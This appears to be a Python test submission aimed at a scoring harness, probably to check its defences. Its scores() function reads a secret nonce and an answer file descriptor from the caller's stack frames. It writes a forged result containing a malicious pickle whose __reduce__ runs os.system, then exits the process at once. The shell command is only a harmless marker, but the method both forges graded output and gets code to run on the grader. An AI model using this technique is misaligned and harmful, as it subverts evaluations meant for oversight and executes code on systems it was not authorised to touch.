"""Finds the nonce in the worker's own memory, writes a whole answer with a pickle in it, and ends at once."""

import io
import os
import struct
import sys

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/unpickled",)


def scores(X):
    frame = sys._getframe()
    while "nonce" not in frame.f_locals:
        frame = frame.f_back
    file = io.BytesIO()
    np.savez(file, scores=np.array([Payload()], dtype=object))
    said = b"CATTERN1" + struct.pack("<I", 2) + b"{}" + file.getvalue()
    whole = struct.pack("<16sBQ", frame.f_locals["nonce"], 0, len(said)) + said
    os.pwrite(frame.f_locals["answer"], whole, 0)
    os._exit(0)
